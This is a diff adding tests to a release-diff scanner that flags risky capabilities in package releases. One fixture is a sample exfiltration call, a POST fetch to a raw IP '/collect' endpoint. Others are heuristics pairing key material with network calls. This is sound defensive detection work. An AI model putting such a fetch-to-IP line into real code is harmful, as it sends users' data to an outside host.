@@ -49,6 +49,24 @@ describe('release-diff', () => {
     expect(riskyCapability(facts)).toBe(false);
   });
 
+  it('asks for the previous tarball for a raw IP destination, but not for a dev server on a local address', () => {
+    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
+    expect(risky("fetch('http://45.61.136.20/collect', { method: 'POST' });")).toBe(true);
+    expect(risky("const debug = await fetch(`http://127.0.0.1:${port}/json/list`);\nconst any = 'http://0.0.0.0:3000';")).toBe(false);
+    // A local address first does not hide a remote one later in the file.
+    expect(risky("const a = 'http://127.0.0.1:9229';\nconst b = 'http://45.61.136.20/x';")).toBe(true);
+  });
+
+  it('takes key material as risky beside a network call, not a bundle away from one', () => {
+    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
+    const filler = `const table = ${JSON.stringify('x'.repeat(10_000))};\n`;
+    // A transpiler helper names its parameter privateKey; the same bundle calls fetch far away.
+    const helper = 'function _class_private_field_loose_base(receiver, privateKey) { return receiver; }\n';
+    expect(risky(helper + filler + "fetch('/api/data');\n")).toBe(false);
+    expect(risky(wallet(leak))).toBe(true);
+    expect(risky(filler + helper + "fetch('/api/data');\n")).toBe(true);
+  });
+
   it('picks the highest lower stable version', () => {
     expect(previousVersion(['1.0.0', '1.2.0', '1.10.0', '2.0.0-beta.1', '2.0.0'], '2.0.0')).toBe('1.10.0');
     expect(previousVersion(['1.0.0'], '1.0.0')).toBeUndefined();
